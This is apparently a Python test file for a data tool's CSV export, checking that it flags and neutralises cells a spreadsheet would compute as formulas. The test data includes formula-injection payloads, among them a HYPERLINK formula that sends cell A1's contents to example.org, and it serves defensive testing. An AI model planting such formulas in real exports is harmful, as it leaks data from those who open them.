"""Texts in CSV that a spreadsheet would compute: said in a note, and made harmless on request."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

import voile
from tests.support.running import voile as run
from voile.formulas import as_text

LINK = '=HYPERLINK("http://example.org/?"&A1,"see")'
TEXTS = [LINK, "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "plain", "-5", "+1.5e3", "a=b"]
SAFE = [f"'{text}" for text in TEXTS[:5]] + TEXTS[5:]


def cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line]


@pytest.mark.parametrize(("given", "wanted"), [*zip(TEXTS, SAFE, strict=True)])
def test_an_apostrophe_stands_before_texts_and_not_before_numbers(given: str, wanted: str) -> None:
    assert as_text(given) == wanted
    assert as_text(-3) == -3
    assert as_text(None) is None


@pytest.fixture
def table(tmp_path: Path) -> Path:
    frame = pd.DataFrame({"note": TEXTS * 10, "n": [-1, 2, 3] * 30, "=name": ["x"] * 90})
    path = tmp_path / "people.parquet"
    frame.to_parquet(path)
    return path


def test_generalize_says_so_or_makes_it_safe(table: Path, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    options = ["--qi", "n", "--k", "5", "--insensitive", "note,=name", "--no-register"]
    done = run("generalize", str(table), "-o", str(out), *options)
    assert done.returncode == 0, done.stderr
    assert "51 cells begin with =" in done.stderr
    assert "--csv-safe" in done.stderr
    assert LINK in cells(out.read_text())

    done = run("generalize", str(table), "-o", str(out), *options, "--csv-safe", "--overwrite")
    assert done.returncode == 0, done.stderr
    assert "cells begin" not in done.stderr
    written = cells(out.read_text())
    assert set(SAFE) <= set(written)
    assert "'=name" in written
    assert "-1" in written
    assert not {LINK, "@SUM(A1)", "=name"} & set(written)


def test_answers_say_so_or_are_safe(tmp_path: Path) -> None:
    frame = pd.DataFrame({"note": TEXTS * 50})
    release = voile.publish(frame, to=tmp_path / "x.voile", prior=0.01, name="x", register=False)
    sql = "select note, count(*) from x group by note"
    out = tmp_path / "answer.csv"
    done = run("query", str(release.path), sql, "-o", str(out))
    assert "5 cells begin with =" in done.stderr
    assert LINK in cells(out.read_text())
    safe = run("query", str(release.path), sql, "-o", str(out), "--overwrite", "--csv-safe")
    assert "cells begin" not in safe.stderr
    assert set(SAFE) <= set(cells(out.read_text()))
    printed = run("query", str(release.path), sql, "--csv", "--csv-safe")
    assert {f"'{LINK}", "'@SUM(A1)"} <= set(cells(printed.stdout))
    assert release.query(sql).to_csv() != release.query(sql).to_csv(safe=True)
